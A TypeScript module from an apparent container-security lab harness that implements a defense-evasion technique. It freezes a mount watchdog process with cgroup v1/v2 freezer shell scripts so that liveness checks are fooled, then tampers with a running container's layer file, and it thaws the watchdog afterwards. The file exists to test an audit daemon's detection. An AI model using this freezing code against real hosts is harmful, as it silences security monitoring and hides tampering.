/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, for T1525 and
 * T1565.001): root on the node freezes the mount watchdog with the cgroup
 * freezer instead of a signal, then edits a layer file of a running
 * protected container in place. Root makes a cgroup of its own below the
 * node's, moves the watchdog's process into it and freezes it (cgroup v1's
 * `freezer.state`, or v2's `cgroup.freeze`). The process keeps its pid and
 * start time and its state is not T: a frozen task sleeps in the kernel's
 * freezer (state D under v1's `__refrigerator`, S under v2's
 * `do_freezer_trap`), so a check that looks for a stopped process is
 * fooled as one that only asks whether it exists would be.
 *
 * What must catch it: the audit daemon, which reads every thread of the
 * watchdog from outside the node and takes one that waits in the freezer for
 * one that does not run (lab/audit/node/defence-liveness.ts), naming the
 * containers left unwatched.
 *
 * Once the evidence is in, the harness thaws the watchdog and removes the
 * cgroup: a task frozen by cgroup v1 does not die of SIGKILL, so the node
 * could not be torn down otherwise. Only the v1 path runs on the lab's hosts
 * (cgroup v1, FACTS.md); the v2 path is written to the kernel's interface
 * and not exercised here.
 */
import { LabError } from '../../errors.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import type { AttackErrorCode } from './common.ts';
import { tamperWithoutWatchdog, type WatchdogSilencer } from './watchdog-kill.ts';

/** The attacker's cgroup, below the node's own (its cgroup namespace's root). */
const CGROUP = 'il-attacker-freezer';

/** $1 the cgroup's name, then the pids: moves them into it, freezes it and waits until the kernel says frozen; prints v1 or v2. */
const FREEZE = `set -e
g=$1; shift
if [ -d /sys/fs/cgroup/freezer ]; then
  d=/sys/fs/cgroup/freezer/$g; mkdir -p "$d"
  for p; do echo "$p" > "$d/cgroup.procs"; done
  echo FROZEN > "$d/freezer.state"
  for i in $(seq 50); do [ "$(cat "$d/freezer.state")" = FROZEN ] && echo v1 && exit 0; sleep 0.1; done
else
  d=/sys/fs/cgroup/$g; mkdir -p "$d"
  for p; do echo "$p" > "$d/cgroup.procs"; done
  echo 1 > "$d/cgroup.freeze"
  for i in $(seq 50); do grep -qx 'frozen 1' "$d/cgroup.events" && echo v2 && exit 0; sleep 0.1; done
fi
echo "the cgroup $d did not report frozen within 5 s" >&2; exit 1`;

/** $1 the cgroup's name: thaws it, moves its processes back to the node's cgroup and removes it. */
const THAW = `g=$1
if [ -d /sys/fs/cgroup/freezer ]; then top=/sys/fs/cgroup/freezer; echo THAWED > "$top/$g/freezer.state"
else top=/sys/fs/cgroup; echo 0 > "$top/$g/cgroup.freeze"; fi
for p in $(cat "$top/$g/cgroup.procs"); do echo "$p" > "$top/cgroup.procs"; done
rmdir "$top/$g"`;

export const cgroupFreezing: WatchdogSilencer = {
  done: 'frozen by the cgroup freezer',
  async apply(node: LabNodeHandle, pids: readonly number[]) {
    if (pids.length === 0) return {};
    const r = await node.exec.run(['sh', '-c', FREEZE, 'freeze', CGROUP, ...pids.map(String)]);
    if (r.exitCode !== 0) {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `could not freeze the watchdog (pid ${pids.join(', ')}) on ${node.name}: ${r.stderr.toString().trim() || `exit ${r.exitCode}`}`);
    }
    return { cgroup: CGROUP, freezer: r.stdout.toString().trim() };
  },
  async release(node: LabNodeHandle) {
    const r = await node.exec.run(['sh', '-c', THAW, 'thaw', CGROUP]);
    if (r.exitCode !== 0) throw new Error(`could not thaw the watchdog's cgroup ${CGROUP} on ${node.name} (the node may not stop): ${r.stderr.toString().trim()}`);
  },
};

export const watchdogCgroupFreeze: Technique = {
  name: 'watchdog-cgroup-freeze',
  run: (ctx) => tamperWithoutWatchdog(ctx, cgroupFreezing),
};
